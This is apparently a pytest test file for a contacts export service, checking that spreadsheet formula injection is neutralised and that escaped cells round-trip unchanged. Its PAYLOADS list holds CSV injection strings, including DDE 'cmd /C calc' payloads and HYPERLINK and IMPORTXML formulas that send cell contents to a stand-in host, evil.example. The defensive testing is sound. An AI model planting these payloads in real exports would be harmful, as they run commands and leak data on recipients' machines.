"""No cell of an export is a formula to whoever opens it, and every cell comes back as it was."""

from __future__ import annotations

import csv
import io
import random
import unicodedata

import pytest

from chalicelib.services.contacts import cells

pytestmark = pytest.mark.clause("stored")

PAYLOADS = (
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2, "Error: click here")',
    '=IMPORTXML(CONCAT("http://evil.example?", CONCATENATE(A2:E2)), "//a")',
    "=cmd|' /C notepad'!'A1'",
    "|calc",
    " =1+1",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "\v=1",
    "\x00=1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    "\u3000=1",
    "\u2060\u200d =1",
    "\u202e=1",
    "\u3164=1",
    "\u00ad=1",
    "\ufe0f=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "｜calc",
    "﹦1",
    "﹢1",
    "⁼1",
    "−1",
    "a;=1",
    'a";=1',
    "a,=1",
    "a\t=1",
    'a";"=1',
    "a\r\n=1",
    "a\n =1",
    "a|=1",
    "a\u2028=1",
    "'=1",
    "''=1",
    "a;'=1",
    "+49 40 5550123",
)
HARMLESS = (
    "",
    "Anna",
    "王小明",
    "O'Brien",
    "'s-Hertogenbosch",
    "50% off; today",
    "a=b",
    "x@y.example",
    "1-2",
    "R&D, sales",
    'the "best" one',
    "  spaced",
    "Zoë\nAnn",
)
LIKELY = "=+-@|'\"＝＋－＠﹦−;,\t\r\n\v\x85\u2028 \u00a0\u3000\u200b\ufeff\u2060ab1(é王"


def opened(line: str, delimiter: str) -> list[str]:
    """What a spreadsheet sees that expects this separator, and which does not mind broken quotes."""
    return [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=delimiter) for cell in row]


def is_formula(cell: str) -> bool:
    """As a spreadsheet at its most obliging decides: it looks past all that is blank or invisible and takes wide and
    small signs for plain ones. Written apart from the product, by what is seen.
    """
    for char in cell:
        plain = unicodedata.normalize("NFKC", char).replace("\u2212", "-")
        if (
            char.isspace()
            or unicodedata.category(char)[0] in "CMZ"
            or char in "\u3164\u115f\u1160\u2800\uffa0"
        ):
            continue
        return plain[0] in "=+-@|"
    return False


def random_cells(many: int) -> list[str]:
    chance = random.Random(5)
    made = []
    for _ in range(many):
        length = chance.randrange(1, 24)
        if chance.random() < 0.5:
            made.append("".join(chance.choice(LIKELY) for _ in range(length)))
        else:
            points = (chance.choice((0x7F, 0x2FF, 0xFFFF, 0x10FFFF)) for _ in range(length))
            text = "".join(chr(chance.randrange(point + 1)) for point in points)
            made.append("".join(char for char in text if unicodedata.category(char) != "Cs"))
    return made


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_in_a_name_runs_on_nobodys_machine(text: str) -> None:
    safe = cells.neutralise(text)
    assert safe != text
    assert cells.original(safe) == text
    for delimiter in ",;\t|":
        assert not [cell for cell in opened(cells.row(["a", text, "b"]), delimiter) if is_formula(cell)]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_is_exported_as_it_was_typed(text: str) -> None:
    assert cells.neutralise(text) == text
    assert cells.original(text) == text


def test_a_telephone_number_can_still_be_read() -> None:
    assert cells.neutralise("+49 40 5550123") == "'+49 40 5550123"


def test_every_cell_comes_back_as_it_was() -> None:
    for text in [*random_cells(10_000), *PAYLOADS, *HARMLESS]:
        once = cells.neutralise(text)
        assert cells.original(once) == text
        assert cells.original(cells.neutralise(once)) == once, "exported, imported and exported again"


def test_no_file_of_odd_names_holds_a_formula_whatever_separator_its_reader_expects() -> None:
    odd = random_cells(10_000)
    for start in range(0, len(odd), 5):
        line = cells.row(odd[start : start + 5])
        for delimiter in ",;\t|":
            found = opened(line, delimiter)
            assert not [cell for cell in found if is_formula(cell)], line.encode()
        assert [cells.original(cell) for cell in opened(line, ",")] == odd[start : start + 5]


def test_every_cell_is_quoted_and_every_quote_is_told_apart() -> None:
    assert cells.row(['the "best"', None, "a,b"]) == '"the ""best""","","a,b"\r\n'
